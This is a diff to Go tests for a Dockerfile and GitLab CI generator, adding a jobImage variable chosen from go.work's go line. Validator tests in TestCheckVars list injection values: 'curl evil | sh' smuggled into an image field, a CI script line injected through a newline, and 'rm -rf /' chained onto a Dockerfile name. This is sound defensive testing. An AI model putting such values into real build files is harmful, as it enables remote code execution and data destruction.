@@ -265,7 +265,7 @@ func TestNewFindings(t *testing.T) {
 func TestCheckVars(t *testing.T) {
 	good := map[string]string{
 		"mainPackage": "./cmd/api", "moduleDir": ".", "dockerfile": "Dockerfile.prod", "aliases": "test vet lint",
-		"goImage": "1.26", "cgo": "true", "cgoReason": "imports github.com/mattn/go-sqlite3",
+		"goImage": "1.26", "jobImage": "1.27", "cgo": "true", "cgoReason": "imports github.com/mattn/go-sqlite3",
 		"cgoAlternative": "modernc.org/sqlite", "vendored": "false", "ciStage": ".pre",
 		"buildConstraint": "linux || (darwin && cgo)", "makefileBlock": "removed",
 	}
@@ -274,6 +274,7 @@ func TestCheckVars(t *testing.T) {
 	}
 	tests := []struct{ key, value, want string }{
 		{"goImage", "1.26\nRUN curl evil | sh", "goImage"},
+		{"jobImage", "1.27\n  script: [evil]", "jobImage"},
 		{"dockerfile", "Dockerfile; rm -rf /", "dockerfile"},
 		{"moduleDir", "svc dir", "moduleDir"},
 		{"mainPackage", "cmd/api", "mainPackage"},
@@ -1131,8 +1132,8 @@ func TestOldGoPins(t *testing.T) {
 }
 
 // TestTidiedGoLineImage: where go mod tidy raises the go line past what add planned, to a
-// newer language version than the golang image the Dockerfile (or the GitLab CI job) was
-// rendered with, add refuses, saying how to go on, rather than write an image that cannot
+// newer language version than the golang image the Dockerfile (or the GitLab CI job, of
+// go.work's go line where that is newer) was rendered with, add refuses, saying how to go on, rather than write an image that cannot
 // build the module; a raise within the image's language version, or without a component
 // that builds in the image, goes ahead with its note.
 func TestTidiedGoLineImage(t *testing.T) {
@@ -1140,11 +1141,15 @@ func TestTidiedGoLineImage(t *testing.T) {
 		name, tidied string // the go line tidy leaves
 		components   []string
 		ci           string
+		jobImage     string // the GitLab CI job's image where go.work's line is newer
 		want         string // in the refusal, "" for none
 	}{
 		{name: "a newer language version, docker", tidied: "1.27.0", components: []string{"shutdown", "docker"},
 			want: "go mod tidy raises the go line to 1.27.0 for what the added code requires, past Go 1.26, whose golang image (golang:1.26) add chose for the build from the go line it planned (1.26.0), and which cannot build the module then; raise the go line first (go mod edit -go=1.27.0, then go mod tidy), then run add again"},
 		{name: "a newer language version, GitLab CI", tidied: "1.27.0", components: []string{"shutdown", "ci"}, ci: "gitlab", want: "golang:1.26"},
+		{name: "a newer language version, GitLab CI under a newer go.work", tidied: "1.27.0", components: []string{"shutdown", "ci"}, ci: "gitlab", jobImage: "1.27"},
+		{name: "a newer language version, docker and GitLab CI under a newer go.work", tidied: "1.27.0", components: []string{"shutdown", "docker", "ci"}, ci: "gitlab", jobImage: "1.27", want: "golang:1.26"},
+		{name: "a newer language version, GitLab CI under an older go.work", tidied: "1.28.0", components: []string{"shutdown", "ci"}, ci: "gitlab", jobImage: "1.27", want: "past Go 1.27, whose golang image (golang:1.27)"},
 		{name: "a newer language version, GitHub CI", tidied: "1.27.0", components: []string{"shutdown", "ci"}, ci: "github"},
 		{name: "a newer language version, no image", tidied: "1.27.0", components: []string{"shutdown"}},
 		{name: "a newer release of the language version, docker", tidied: "1.26.3", components: []string{"shutdown", "docker"}},
@@ -1157,6 +1162,9 @@ func TestTidiedGoLineImage(t *testing.T) {
 			p.opts.AllowGoBump = true
 			p.plan.Components, p.answers.CI = tt.components, tt.ci
 			p.goWas, p.goDirective, p.vars = "1.24", "1.26.0", map[string]string{"goImage": "1.26"}
+			if tt.jobImage != "" {
+				p.vars["jobImage"] = tt.jobImage
+			}
 			err := p.tidiedGoLine("go.mod", []byte("module example.com/x\n\ngo "+tt.tidied+"\n"))
 			switch {
 			case tt.want == "" && err != nil:
@@ -1221,6 +1229,41 @@ func TestPrepareRecordedVersion(t *testing.T) {
 				t.Errorf("add by %s records version %s", tt.running, plan.Record.Generator.Version)
 			case tt.refused != "" && (!errors.As(err, &r) || !strings.Contains(err.Error(), tt.refused)):
 				t.Errorf("add by %s over a record of %s: plan %v, err %v; want a refusal with %q", tt.running, tt.recorded, plan != nil, err, tt.refused)
+			}
+		})
+	}
+}
+
+// TestJobImage: the GitLab CI job runs in the checkout, under a go.work of the repository
+// that uses the module, so its image (jobImage) is of go.work's go line where that is a
+// newer language version than go.mod's; without one, with one of the same language
+// version, or for a vendored module (the job sets GOWORK off), the job takes goImage.
+func TestJobImage(t *testing.T) {
+	const main = "package main\n\nimport \"net/http\"\n\nfunc main() { _ = http.ListenAndServe(\":8080\", nil) }\n"
+	tests := []struct {
+		name  string
+		files map[string]string
+		want  string // jobImage, "" for none
+	}{
+		{"no go.work", map[string]string{"main.go": main}, ""},
+		{"a go.work of a newer go line", map[string]string{"main.go": main, "go.work": "go 1.27.0\n\nuse .\n"}, "1.27"},
+		{"a go.work of the same language version", map[string]string{"main.go": main, "go.work": "go 1.26.3\n\nuse .\n"}, ""},
+		{"a go.work that does not use the module", map[string]string{"main.go": main, "go.work": "go 1.27.0\n"}, ""},
+		{"a vendored module", map[string]string{"main.go": main, "go.work": "go 1.27.0\n\nuse .\n", "vendor/modules.txt": ""}, ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			target := inlineTarget(t, tt.files)
+			target.Answers.Go = target.Module.Go
+			p := newTestPlanner(target, nil)
+			if err := p.setVars(); err != nil {
+				t.Fatal(err)
+			}
+			if p.vars["goImage"] != "1.26" {
+				t.Errorf("goImage = %q, want go.mod's 1.26", p.vars["goImage"])
+			}
+			if got := p.vars["jobImage"]; got != tt.want {
+				t.Errorf("jobImage = %q, want %q", got, tt.want)
 			}
 		})
 	}
